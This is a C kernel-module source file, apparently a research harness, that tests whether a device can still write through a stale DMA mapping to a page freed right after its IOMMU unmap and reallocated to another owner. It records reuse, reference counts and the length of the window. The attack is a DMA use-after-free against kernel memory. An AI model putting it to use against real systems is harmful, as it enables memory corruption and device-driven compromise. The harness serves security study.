// SPDX-License-Identifier: GPL-2.0
/* A device writes to a page that was freed right after its unmap. */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/slab.h>

#include "attack.h"

/* Allocations that look for one page; the allocator gives out first what was freed last. */
#define SEARCH	512

struct search {
	struct page *pages[SEARCH];
	int count;
};

/*
 * Allocate pages until @frame is among them. Return how many that took, or 0 if it was
 * not found; search_end() frees them.
 */
static int search_for(struct search *search, unsigned long frame)
{
	while (search->count < SEARCH) {
		struct page *page = alloc_page(GFP_ATOMIC | __GFP_NOWARN);

		if (!page)
			break;
		search->pages[search->count++] = page;
		if (page_to_pfn(page) == frame)
			return search->count;
	}
	return 0;
}

static void search_end(struct search *search)
{
	while (search->count > 0)
		__free_page(search->pages[--search->count]);
}

/*
 * Free a page right after it was unmapped, and make the device write to its address once
 * another owner has got the page. Interrupts are off until then, so that no deferred
 * flush ends the window early, and so that the allocator's list is this processor's.
 *
 * If no allocation gets the page, the device writes to it nevertheless: it can be looked at if
 * one reference is left, which is the IOMMU driver's.
 */
int vtd_attack_freed(struct vtd_attack *a, const struct scenario *s,
		     struct page *page, struct result *r)
{
	struct search *search = kvzalloc(sizeof(*search), GFP_KERNEL);
	struct device *dev = &a->dev.pdev->dev;
	unsigned long frame = page_to_pfn(page);
	unsigned long flags;
	ktime_t unmapped;
	int err = -ENOMEM;

	if (search)
		r->iova = dma_map_page(dev, page, 0, PAGE_SIZE, s->dir);
	if (!search || dma_mapping_error(dev, r->iova)) {
		__free_page(page);
		goto out;
	}
	/* The allocator has a list for each processor. */
	migrate_disable();
	/* Earlier unmaps may have a flush pending. */
	msleep(50);
	err = vtd_attack_warm_up(a, page, r->iova, &r->warm);
	local_irq_save(flags);
	dma_unmap_page(dev, r->iova, PAGE_SIZE, s->dir);
	unmapped = ktime_get();
	r->refs[0] = page_ref_count(page);
	__free_page(page);
	r->refs[1] = page_ref_count(page);
	r->reused = search_for(search, frame);
	r->intact = true;
	if (!err && (r->reused || r->refs[1] == 1)) {
		bool landed;

		vtd_attack_fill(page);
		err = vtd_attack_strike(a, s, page, r->iova, &landed);
		r->intact = vtd_attack_intact(page);
		r->landed = landed && r->reused;
		r->stale = landed && !r->reused;
	}
	local_irq_restore(flags);

	search_end(search);
	do {
		bool found = search_for(search, frame);

		search_end(search);
		r->back_us = ktime_us_delta(ktime_get(), unmapped);
		if (found)
			break;
		usleep_range(500, 1000);
	} while (r->back_us < WINDOW_LIMIT_US);
	migrate_enable();
out:
	kvfree(search);
	return err;
}
